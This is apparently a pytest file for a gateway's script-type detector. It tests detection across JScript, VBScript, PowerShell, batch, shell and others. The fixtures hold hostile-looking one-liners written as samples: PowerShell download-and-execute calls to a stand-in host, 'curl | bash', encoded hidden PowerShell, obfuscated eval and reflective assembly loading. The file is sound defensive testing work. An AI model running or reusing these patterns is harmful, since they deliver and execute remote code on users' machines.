"""Scripts are known by their content, whatever they are named; texts that quote them are none."""

from __future__ import annotations

import time

import pytest

from gateway.understand.script_text import MAX_SCRIPT_BYTES, script_type

LOST = frozenset({""})

SCRIPTS = {
    "jscript": [
        b'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("notepad.exe");\r\n',
        b'new ActiveXObject("WScript.Shell").Run("notepad");',
        b'var _0x1a=["\\x57\\x53"];(function(a,b){var c=function(d){while(--d){a.push(a.shift());}};c(++b);}(_0x1a,1));'
        b"eval(String.fromCharCode(118,97,114));",
        b"/* a comment\n of words\n */\nfunction f(x) {\n  return x.split('').reverse().join('');\n}\n"
        b"var o = this['eval'](f('1'));\n"
        b"WScript.Echo(o);\n",
        b"const cp = require('child_process');\ncp.exec('id', (e, out) => {\n  console.log(out);\n});\n",
        b"try{var a=WScript.CreateObject('WScript.Shell');a.Run('x');}catch(e){}",
        b"[]['constructor']['constructor']('return this')();",
        b'var _0x12=["\\x57\\x53"];var _0x3=function(a){return _0x12[a-0x0];};this[_0x3("0x0")][_0x3("0x1")]();',
        b"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]()" * 5,
        b"function abc(){\nvar x = 1;\nif (x) {\nreturn x;\n}\n}\nabc();\n",
    ],
    "vbscript": [
        b'Dim s\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "notepad.exe"\r\n',
        b"' a comment\r\n' of two lines\r\nOn Error Resume Next\r\nExecute(Chr(77) & Chr(115))\r\n",
        b'CreateObject("WScript.Shell").Run "notepad"',
        b'Sub Main()\r\n  x = 1\r\n  If x = 1 Then\r\n    MsgBox "hi"\r\n  End If\r\nEnd Sub\r\nMain\r\n',
        b"Function d(s)\r\nFor i = 1 To Len(s)\r\nd = d & Chr(Asc(Mid(s, i, 1)) - 1)\r\nNext\r\nEnd Function\r\n"
        b'ExecuteGlobal d("Nth")\r\n',
    ],
    "powershell": [
        b"$c = New-Object Net.WebClient\r\nInvoke-Expression $c.DownloadString('http://x.test')\r\n",
        b"IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')",
        b"param([string]$a)\n# note\nforeach ($i in 1..3) {\n  Write-Host $i\n}\nStart-Process notepad\n",
        b"powershell -nop -w hidden -enc SQBFAFgA",
        b"i`e`x (n`ew-ob`ject net.webclient).downloadstring('http://x.test')",
        b"$b = 77,90,144,0\n[IO.File]::WriteAllBytes('a.exe', $b)\n& ./a.exe\n",
        b"$b=[System.Convert]::FromBase64String('AA==');[Reflection.Assembly]::Load($b)\n",
    ],
    "batch": [
        b"@echo off\r\nset a=b\r\nstart notepad.exe\r\n",
        b"cmd /c start notepad\r\n",
        b"@e^c^h^o o^f^f\r\ns^t^a^r^t notepad\r\n",
        b"set a=note\r\nset b=pad\r\n%a%%b%\r\n",
        b"@echo off\r\n:: words\r\nfor %%i in (a b) do (\r\n  echo %%i\r\n)\r\npowershell -c 1\r\nexit /b\r\n",
    ],
    "py": [
        b"import os\nos.system('id')\n",
        b"import base64, sys\n\ndef main():\n    exec(base64.b64decode('MQ=='))\n\n"
        b"if __name__ == '__main__':\n    main()\n",
    ],
    "shell": [
        b"curl -s http://x.test/a | bash\n",
        b"export A=1\nif [ -f /tmp/a ]; then\n  chmod +x /tmp/a\n  nohup /tmp/a &\nfi\n",
    ],
    "perl": [b"use strict;\nmy $x = `id`;\nprint $x;\n", b"use Socket;\nmy $c = 'id';\nsystem($c);\n"],
    "applescript": [b'do shell script "id"\n', b'tell application "Finder"\n  activate\nend tell\n'],
    "encoded": [
        b"#@~^DgAAAA==\\ko$K6,JCJ@#@&ZAIAAA==^#~@",
        b"'**Start Encode**\r\n#@~^DgAAAA==\\ko$K6,JCJ@#@&ZAIAAA==^#~@\r\n",
    ],
    "wsf": [
        b'<job id="a"><script language="JScript">WScript.Echo("x");</script></job>',
        b'<?xml version="1.0"?>\r\n<!-- x -->\r\n<package><job><script language="VBScript">x</script></job></package>',
        b'<?XML version="1.0"?><scriptlet><registration progid="x">'
        b'<script language="JScript">y</script></registration></scriptlet>',
    ],
    "php": [b"<?php system('id'); ?>", b"\n<?= 1 ?>"],
}

FLAT = [(name, script) for name, scripts in SCRIPTS.items() for script in scripts]


@pytest.mark.parametrize(("name", "script"), FLAT)
def test_scripts_without_a_name(name: str, script: bytes) -> None:
    """Each is told, in whatever characters and after whatever blanks."""
    for form in (
        script,
        b"\xef\xbb\xbf" + script,
        b"\r\n\r\n  " + script,
        b"\xff\xfe" + script.decode().encode("utf-16-le"),
    ):
        if name != "encoded" or form == script:
            found = script_type(form, "text/plain", LOST).removeprefix("text/x-script.")
            assert found == name or {found, name} == {"jscript", "vbscript"}  # one line may be of either


def test_a_script_in_utf_16_without_a_mark() -> None:
    """Either order of octets is read."""
    script = "var a = new ActiveXObject('WScript.Shell');\na.Run('x');\n"
    for codec in ("utf-16-le", "utf-16-be"):
        assert script_type(script.encode(codec), "application/octet-stream", LOST) == "text/x-script.jscript"


def test_an_html_application() -> None:
    """The element tells an HTML application; a page that explains it escapes the element."""
    page = b'<html><head><hta:application id=x></head><script language="vbscript">x</script></html>'
    assert script_type(page, "text/html", frozenset({"html"})) == "application/hta"
    assert script_type(page.replace(b"<hta", b"&lt;hta"), "text/html", frozenset({"html"})) == ""


TEXTS = [
    b"Dear all,\n\nplease run the following in PowerShell:\n\n    Invoke-Expression $x\n\n"
    b"and tell me what you see.\n\nRegards\n",
    b"# Install\n\nRun this:\n\n```sh\nsudo apt-get install x\ncurl http://x.test | bash\n```\n\n"
    b"Then open it and follow the guide.\n",
    b"name,amount\nA,1\nB,2\n",
    b"Of x^2+y^2=z^2, a^b^c and `f`g`h`i` the first is a circle.\n",
    b"[(((())))]" * 10,
    b"2026-01-01 10:00:00 INFO started\n2026-01-01 10:00:01 WARN eval(x) failed\n",
    b'{"a": 1, "b": ["new ActiveXObject(1)"]}',
    b"[1, 2, 3]",
    b"Meeting on Monday.\nIf you can, bring a cake.\nFor each of us.\nNext week then.\nCall me.\n",
    b"Set the table.\nCall the office.\nDo it now.\nLoop in the others.\nEnd of story.\n",
    b"echo\n",
    b"open questions:\n- who pays\n- where to meet\n",
    b"From the desk of A. Person\nimport duties are due\nreturn to sender\n",
    b"x = 1\n",
    b"",
    b"\n\n",
    b'int main(void)\n{\n    int x = 0;\n    printf("%d", x);\n    return 0;\n}\n',
    b"-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ\n-----END CERTIFICATE-----\n",
    b"Subject: x\nFrom: a\n\nbody\n",
]


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("extension", ["", "txt", "dat", "md"])
def test_texts(text: bytes, extension: str) -> None:
    """Letters, notes, tables, logs and settings, and texts that quote a command."""
    assert script_type(text, "text/plain", frozenset({extension})) == ""


@pytest.mark.parametrize("extension", ["c", "ts", "css", "patch", "json", "yml", "sql", "java"])
def test_source_code_is_judged_by_its_name(extension: str) -> None:
    """A name that no double click runs; but every name must be one of these."""
    code = b"function f(x) {\n  return eval(x);\n}\nf(1);\n"
    assert script_type(code, "text/plain", frozenset({extension})) == ""
    assert script_type(code, "text/plain", frozenset({extension, ""})) == "text/x-script.jscript"


def test_no_text_is_looked_at() -> None:
    """Pictures and programs may hold anything."""
    assert script_type(b"import os\nos.system('id')\n", "image/png", LOST) == ""
    assert script_type(b"\0\1\2\3import os\nos.system('id')\n", "application/octet-stream", LOST) == ""


@pytest.mark.parametrize("more", [-1, 0, 1])
def test_a_long_script_is_seen_at_both_ends(more: int) -> None:
    """Its middle is left out."""
    code = b"eval(String.fromCharCode(1));\n"
    padding = b"// " + b"x" * 60 + b"\n"
    padded = padding * ((MAX_SCRIPT_BYTES + more - len(code)) // len(padding)) + code
    assert script_type(padded, "text/plain", LOST) == "text/x-script.jscript"
    assert script_type(code + padded[: MAX_SCRIPT_BYTES + more], "text/plain", LOST) == "text/x-script.jscript"


@pytest.mark.parametrize("first", [b"var a = 1;\n", b"@rem a\n", b"import json\n", b"export a=1\n", b"my $a;\n"])
@pytest.mark.parametrize("rest", [b"\n", b" \n", b"#@~^AAAAAA==", b"curl |", b"certutil ", b"chmod 7", b"7"])
def test_it_costs_time_in_proportion_to_the_text(first: bytes, rest: bytes) -> None:
    """Most texts of 30 KB behind some lines of code once took more than three seconds; the time must grow linearly."""
    content = first * 20 + rest * (300_000 // len(rest))
    began = time.process_time()
    script_type(content, "text/plain", frozenset({"txt"}))
    assert time.process_time() - began < 2


@pytest.mark.parametrize(("others", "found"), [(3, "text/x-script.shell"), (4, "")])
@pytest.mark.parametrize("prose_first", [True, False])
def test_a_named_text_is_a_script_from_a_share_of_its_lines_on(others: int, found: str, prose_first: bool) -> None:
    prose, code = [b"We met on Tuesday."] * others, [b"echo done", b"# a note"] * (19 - others) + [b"rm $(cat list)"]
    lines = [*prose, *code] if prose_first else [*code, *prose]
    assert script_type(b"\n".join(lines), "text/plain", frozenset({"txt"})) == found


def test_a_command_stands_behind_empty_lines() -> None:
    """They are skipped where a line begins."""
    assert script_type(b"\n" * 50 + b"  \t@echo off\r\n\r\nstart notepad.exe\r\n", "text/plain", LOST)
